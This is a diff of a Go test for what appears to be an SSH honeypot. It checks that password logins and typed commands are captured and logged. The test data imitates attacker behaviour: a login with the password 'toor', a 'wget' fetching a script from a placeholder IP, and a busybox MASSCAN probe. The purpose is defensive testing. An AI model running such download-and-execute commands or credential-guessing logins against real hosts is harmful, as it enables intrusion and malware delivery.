@@ -772,19 +772,34 @@ func TestAppsSSHAccept(t *testing.T) {
 	out, err := l.InClient(20*time.Second, "sshpass", "-p", "toor", "ssh", "-o", "StrictHostKeyChecking=no",
 		"-o", "UserKnownHostsFile=/dev/null", "-o", "PreferredAuthentications=password", "-o", "PubkeyAuthentication=no",
 		"-o", "NumberOfPasswordPrompts=1", "-o", "ConnectTimeout=5", "root@"+RespIP4, "uname -a; wget http://203.0.113.9/x.sh")
-	if err != nil {
-		t.Errorf("ssh: %v\n%s", err, out)
+	if err != nil || !strings.Contains(out, "Linux localhost") || !strings.Contains(out, "wget: can't connect to remote host") {
+		t.Errorf("ssh exec: %v\n%s", err, out)
 	}
-	var accepted, command bool
+	// an interactive shell on a pty (ssh -tt), fed by a pipe
+	out, err = l.InClient(20*time.Second, "sh", "-c", "printf 'cat /proc/cpuinfo\\n/bin/busybox MASSCAN\\nexit\\n' | "+
+		"sshpass -p toor ssh -tt -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o PreferredAuthentications=password "+
+		"-o PubkeyAuthentication=no -o NumberOfPasswordPrompts=1 -o ConnectTimeout=5 admin@"+RespIP4)
+	if err != nil || !strings.Contains(out, "admin@localhost:~$") || !strings.Contains(out, "model name") ||
+		!strings.Contains(out, "MASSCAN: applet not found") {
+		t.Errorf("ssh -tt: %v\n%s", err, out)
+	}
+	var accepted, command, url, typed bool
 	for _, a := range appEvents(t, l, "ssh") {
 		if a["accepted"] == true && str(a["password"]) == "toor" && str(a["attempt"]) == "1" {
 			accepted = true
 		}
 		if str(a["session_request"]) == "exec" && str(a["command"]) == "uname -a; wget http://203.0.113.9/x.sh" {
 			command = true
+			url = str(a["urls"]) == "[http://203.0.113.9/x.sh]"
+		}
+		if a["session_request"] == nil && str(a["command"]) == "/bin/busybox MASSCAN" {
+			typed = true
+		}
+		if auth, ok := a["auth"].(map[string]any); ok && auth["protocol"] != "ssh" {
+			t.Errorf("auth record %v", auth)
 		}
 	}
-	if !accepted || !command {
-		t.Errorf("accepted login %v, command recorded %v", accepted, command)
+	if !accepted || !command || !url || !typed {
+		t.Errorf("accepted login %v, command recorded %v with its URL %v, typed line recorded %v", accepted, command, url, typed)
 	}
 }
